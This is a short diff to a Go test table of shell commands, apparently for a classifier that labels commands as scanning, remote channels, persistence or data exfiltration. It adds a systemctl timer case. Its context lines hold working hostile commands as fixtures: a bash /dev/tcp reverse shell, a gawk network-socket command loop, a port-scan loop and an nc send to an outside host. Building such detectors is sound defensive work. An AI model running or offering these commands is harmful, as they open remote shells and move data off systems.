@@ -143,6 +143,7 @@ var classifyCases = []struct {
 	{"/usr/bin/ncat -w1 -z 192.168.1.1 22", classScan},
 	{`for port in $(seq 1 1024); do timeout 1 bash -c "echo >/dev/tcp/10.0.0.2/$port" && echo $port; done`, classScan},
 	{"bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", classChannel},                                                                               // a fixed port: a reverse shell
+	{"systemctl --user enable --now agent.timer", classPersistence},                                                                        // an option before the verb
 	{`gawk 'BEGIN{s="/inet/tcp/0/10.0.0.2/4471"; while((s|&getline c)>0){ while((c|&getline l)>0) print l|&s; close(c) }}'`, classChannel}, // gawk's network special file
 	// a relay told to send and quit, encoded DNS labels: data out
 	{"nc -q 1 203.0.113.7 9000", classExfilImpact},
